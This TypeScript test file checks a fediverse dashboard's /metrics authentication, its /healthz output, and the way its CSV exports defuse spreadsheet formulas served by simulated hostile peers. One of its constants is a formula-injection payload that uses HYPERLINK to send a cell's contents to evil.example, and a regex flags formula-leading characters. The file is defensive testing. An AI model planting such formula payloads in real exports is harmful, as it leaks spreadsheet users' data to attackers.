import { createHash } from 'node:crypto';
import { copyFileSync, truncateSync } from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../collectors/finances/csv.ts';
import { latestSnapshot, snapshotDir } from '../../collectors/store/snapshots.ts';
import type { Sim } from '../../sim/index.ts';
import { issue } from '../../sim/tls.ts';
import { newSession, seal } from '../../src/lib/server/auth/session.ts';
import { runCollect, startDashboard, startTrustedSim, tempDir, type Dashboard } from '../helpers/index.ts';

const SECRET = 'security-http-test-secret-0123456789';
const METRICS_TOKEN = 'security-http-metrics-token';
/** What two hostile peers serve: a NodeInfo software name and a public block comment, both formulas. */
const FORMULA_SOFTWARE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
const FORMULA_COMMENT = '@SUM(1+1)';

const staffCookie = () =>
  `fedipulse_session=${seal(
    Buffer.from(SECRET),
    'session',
    newSession(
      { id: '1', acct: 'ada@social.coop.example', displayName: 'Ada', role: 'Owner', via: 'role' },
      3600
    )
  )}`;

/**
 * Two peers on the fediverse, crawled for real: formula.example names its software with a spreadsheet
 * formula; blocker.example (Mastodon) suspends us with a formula as its public comment.
 */
async function startHostilePeers(sim: Sim, ownDomain: string): Promise<{ port: number; close(): void }> {
  const { cert, key } = await issue(sim.ca, ['formula.example', 'blocker.example']);
  const server = https.createServer({ cert, key }, (req, res) => {
    const host = String(req.headers.host ?? '').replace(/:\d+$/, '');
    const send = (body: unknown) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    };
    if (req.url === '/.well-known/nodeinfo')
      return send({
        links: [
          { rel: 'http://nodeinfo.diaspora.software/ns/schema/2.0', href: `https://${host}/nodeinfo/2.0` }
        ]
      });
    if (req.url === '/nodeinfo/2.0')
      return send({
        version: '2.0',
        software: { name: host === 'formula.example' ? FORMULA_SOFTWARE : 'mastodon', version: '4.3.8' },
        protocols: ['activitypub'],
        services: { inbound: [], outbound: [] },
        usage: {
          users: { total: host === 'formula.example' ? 90_000 : 80_000, activeMonth: 900 },
          localPosts: 5
        },
        openRegistrations: false,
        metadata: {}
      });
    if (req.url === '/api/v1/instance/domain_blocks' && host === 'blocker.example')
      return send([
        {
          domain: ownDomain,
          digest: createHash('sha256').update(ownDomain).digest('hex'),
          severity: 'suspend',
          comment: FORMULA_COMMENT
        }
      ]);
    res.writeHead(404).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as AddressInfo).port,
    close: () => {
      server.closeAllConnections();
      server.close();
    }
  };
}

describe('the dashboard over HTTP: /metrics, /healthz and CSV exports', () => {
  let sim: Sim;
  let peers: { port: number; close(): void };
  let dbPath: string;
  let env: Record<string, string>;
  const dashboards: Dashboard[] = [];

  const start = async (extra: Record<string, string>) => {
    const d = await startDashboard({ ...env, FEDIPULSE_SESSION_SECRET: SECRET, ...extra });
    dashboards.push(d);
    return d.url;
  };

  beforeAll(async () => {
    sim = await startTrustedSim({ peers: 10 });
    const ownDomain = new URL(sim.ownUrl).hostname;
    peers = await startHostilePeers(sim, ownDomain);
    dbPath = path.join(tempDir(), 'fedipulse.duckdb');
    env = sim.env({
      FEDIPULSE_DB: dbPath,
      FEDIPULSE_TOKEN: sim.own.tokens.admin,
      FEDIPULSE_SEED_PEERS: 'formula.example,blocker.example',
      // The hostile peers first; every other host goes to the simulator.
      FEDIPULSE_CONNECT_TO: [
        `formula.example:443:127.0.0.1:${peers.port}`,
        `blocker.example:443:127.0.0.1:${peers.port}`,
        ...sim.connectTo
      ].join(' ')
    });
    for (const kind of ['instance', 'peers']) {
      const r = await runCollect([kind, '--quiet'], env);
      expect(r.code, r.stderr).toBe(0);
    }
  });
  afterAll(async () => {
    for (const d of dashboards) await d.stop();
    peers?.close();
    await sim?.stop();
  });

  describe('/metrics is staff or bearer token unless the operator opts in', () => {
    it('by default (no token, no opt-in): anonymous scrapers get 401 with a Bearer challenge; staff get the metrics', async () => {
      const url = await start({ FEDIPULSE_METRICS_TOKEN: '', FEDIPULSE_METRICS_PUBLIC: '' });
      const anon = await fetch(`${url}/metrics`);
      expect(anon.status).toBe(401);
      expect(anon.headers.get('www-authenticate')).toMatch(/^Bearer\b/);
      expect(anon.headers.get('cache-control')).toMatch(/no-store/);
      const body = await anon.text();
      expect(body).not.toMatch(/fedipulse_reports_open|fedipulse_peers_limiting_us/);
      expect((await fetch(`${url}/metrics`, { headers: { authorization: 'Bearer anything' } })).status).toBe(
        401
      );
      const staff = await fetch(`${url}/metrics`, { headers: { cookie: staffCookie() } });
      expect(staff.status).toBe(200);
      expect(await staff.text()).toMatch(/^fedipulse_peers_limiting_us 1$/m);
    });

    it('with FEDIPULSE_METRICS_TOKEN: wrong or missing token 401, the right token 200, staff 200', async () => {
      const url = await start({ FEDIPULSE_METRICS_TOKEN: METRICS_TOKEN });
      const get = (headers: Record<string, string> = {}) => fetch(`${url}/metrics`, { headers });
      const none = await get();
      expect(none.status).toBe(401);
      expect(none.headers.get('www-authenticate')).toMatch(/^Bearer\b/);
      for (const bad of [
        'Bearer wrong',
        `Bearer ${METRICS_TOKEN}x`,
        `Bearer ${METRICS_TOKEN.slice(0, -1)}`,
        METRICS_TOKEN
      ])
        expect((await get({ authorization: bad })).status, bad).toBe(401);
      const ok = await get({ authorization: `Bearer ${METRICS_TOKEN}` });
      expect(ok.status).toBe(200);
      expect(await ok.text()).toMatch(/^fedipulse_data_available 1$/m);
      expect((await get({ cookie: staffCookie() })).status).toBe(200);
    });

    it('FEDIPULSE_METRICS_PUBLIC=true: anyone may scrape', async () => {
      const url = await start({ FEDIPULSE_METRICS_TOKEN: '', FEDIPULSE_METRICS_PUBLIC: 'true' });
      const res = await fetch(`${url}/metrics`);
      expect(res.status).toBe(200);
      expect(await res.text()).toMatch(/^fedipulse_data_available 1$/m);
    });
  });

  describe('CSV exports defuse formulas that peers wrote', () => {
    let url: string;
    beforeAll(async () => {
      url = await start({ FEDIPULSE_METRICS_TOKEN: METRICS_TOKEN });
    });
    const csv = async (p: string) => {
      const res = await fetch(`${url}${p}`, { headers: { cookie: staffCookie() } });
      expect(res.status, p).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const parsed = parseCsv(await res.text(), ',');
      expect(parsed.errors).toEqual([]);
      const [head, ...rows] = parsed.records.map((r) => r.fields);
      return rows.map((r) => Object.fromEntries(head.map((h, i) => [h, r[i]])));
    };
    /** No cell of a CSV opens with a character a spreadsheet treats as the start of a formula. */
    const noFormula = (rows: Record<string, string>[]) => {
      for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    };

    it("a peer's software name (NodeInfo) reaches the federation CSVs with a leading apostrophe", async () => {
      // The crawler keeps the name lowercased (collectors/peers/nodeinfo.ts normalizeSoftware).
      const stored = FORMULA_SOFTWARE.toLowerCase();
      const changes = await csv('/data/federation/peer_changes.csv');
      const row = changes.find((r) => r.domain === 'formula.example');
      expect(row).toMatchObject({ change: 'new', software: `'${stored}`, users: '90000' });
      noFormula(changes);
      const mix = await csv('/data/federation/software_by_servers.csv');
      expect(mix.map((r) => r.software)).toContain(`'${stored}`);
      noFormula(mix);
    });

    it("a peer's public block comment reaches the staff CSV with a leading apostrophe", async () => {
      const list = await csv('/data/federation/limiting_us_list.csv');
      expect(list.find((r) => r.domain === 'blocker.example')).toMatchObject({
        severity: 'suspend',
        comment: `'${FORMULA_COMMENT}`
      });
      noFormula(list);
    });
  });

  it('/healthz shows status only: file names, no paths on this machine, no error texts', async () => {
    const url = await start({});
    const good = latestSnapshot(dbPath)!;
    // A newer snapshot that cannot be opened: DuckDB's reason names its full path.
    const bad = path.join(snapshotDir(dbPath), '29991231T235959000Z-run99.duckdb');
    copyFileSync(good, bad);
    truncateSync(bad, 100);
    let h: Record<string, unknown> = {};
    for (let i = 0; i < 60 && !h.rejected_snapshot; i++) {
      const res = await fetch(`${url}/healthz`);
      expect(res.status).toBe(200);
      h = (await res.json()) as Record<string, unknown>;
      if (!h.rejected_snapshot) await new Promise((r) => setTimeout(r, 100));
    }
    expect(h).toMatchObject({
      status: 'ok',
      data: true,
      snapshot: path.basename(good),
      rejected_snapshot: path.basename(bad),
      last_run: { kind: 'peers', status: expect.stringMatching(/ok|partial/) }
    });
    const text = JSON.stringify(h);
    expect(text).not.toContain(path.dirname(dbPath));
    expect(text).not.toMatch(/"\/[^"]*\//); // no absolute path anywhere
    expect(text).not.toMatch(/error|invalid|corrupt|not a valid/i);
    // Staff still see the reason on /status.
    const status = await fetch(`${url}/status`, { headers: { cookie: staffCookie() } });
    expect(status.status).toBe(200);
    expect(await status.text()).toContain(path.basename(bad));
  });
});
